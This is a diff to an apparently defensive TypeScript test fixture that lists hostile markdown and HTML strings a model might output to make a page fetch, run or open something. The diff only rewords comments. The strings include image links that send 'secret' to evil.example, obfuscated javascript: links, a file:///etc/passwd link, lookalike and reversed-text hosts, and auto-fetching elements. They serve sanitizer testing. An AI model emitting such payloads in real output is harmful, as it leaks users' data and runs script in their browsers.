@@ -1,4 +1,4 @@
-/** What a model might write, or be made to write, to have the page load, run or open something. */
+/** Markdown with which a model might try to make the page load, run or open something. */
 export const HOSTILE_MARKDOWN: readonly string[] = [
   '![a](https://evil.example/p.png?d=secret)',
   '![a][r]\n\n[r]: https://evil.example/p.png?d=secret',
@@ -73,7 +73,7 @@ export const HOSTILE_MARKDOWN: readonly string[] = [
   '***[a](javascript:alert(1))***',
   '[a](https://evil.example/ "x" onclick="alert(1)")',
   '[__proto__]: javascript:alert(1)\n\n[__proto__] [constructor] [toString]',
-  // Entities, controls, case and percent signs in the names of schemes.
+  // Entities, control characters, case and percent-encoding in the names of schemes.
   '[a](&#0106;avascript:alert(1))',
   '[a](j&#97;vascript&#x3A;alert(1))',
   '[a](java\\\nscript:alert(1))',
@@ -94,7 +94,7 @@ export const HOSTILE_MARKDOWN: readonly string[] = [
   '[a](ssh://evil.example/x)',
   '[a](file://evil.example/share)',
   '[a](FILE:///etc/passwd)',
-  // Hosts that are not what they seem.
+  // Deceptive host names.
   '[https://baidu.com](https://baidu.com\u2044login@evil.example/)',
   '[baidu.com](https://baіdu.com/)',
   '[baidu.com](https://ｂaidu.com/)',
@@ -109,7 +109,7 @@ export const HOSTILE_MARKDOWN: readonly string[] = [
   '[a](https:evil.example)',
   '[a](mailto:a@b.cn?subject=s&body=secret)',
   '[\u202ehttps://moc.udiab\u202c](https://evil.example/)',
-  // What browsers fetch without being asked.
+  // Elements that browsers fetch without user interaction.
   '<link rel="dns-prefetch" href="//secret.evil.example">',
   '<link rel=preconnect href=https://evil.example>',
   '<audio src=https://evil.example/a.mp3 autoplay></audio>',
